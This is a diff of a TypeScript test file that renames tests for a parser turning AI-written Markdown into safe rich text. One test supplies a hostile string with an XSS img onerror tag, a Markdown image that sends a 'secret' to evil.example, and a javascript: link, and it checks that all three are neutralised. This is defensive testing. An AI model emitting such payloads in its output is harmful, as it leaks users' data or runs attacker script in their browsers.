@@ -4,7 +4,7 @@ import { readRichText } from './rich-text.ts';
 
 const text = (words: string) => ({ kind: 'text', text: words });
 
-test('what models write is read: strong words, lists, headings, code', () => {
+test("parses models' Markdown: bold text, lists, headings, code", () => {
   const read = readRichText('## Done\n\nI made **two** changes:\n\n1. the `price`\n2. the *date*');
   expect(read).toEqual([
     { kind: 'heading', parts: [text('Done')] },
@@ -23,7 +23,7 @@ test('what models write is read: strong words, lists, headings, code', () => {
   ]);
 });
 
-test('nothing that a model writes is markup, runs, or is fetched', () => {
+test('renders no markup, runs nothing and fetches nothing from a model', () => {
   const hostile =
     '<img src=https://evil.example/x onerror=alert(1)> ![all words](https://evil.example/?q=secret) [press](javascript:alert(1)) [page](https://octavo.example/)';
   const read = readRichText(hostile);
@@ -32,7 +32,7 @@ test('nothing that a model writes is markup, runs, or is fetched', () => {
   expect(JSON.stringify(read).match(/"href":"[^"]*"/g)).toEqual(['"href":"https://octavo.example/"']);
 });
 
-test('plain sentences ask for no reading', () => {
+test("doesn't parse plain sentences", () => {
   expect(mayBeRich('Your invoice is ready: two lines, €3,712.80 to pay, due on December 5, 2026.')).toBe(
     false,
   );
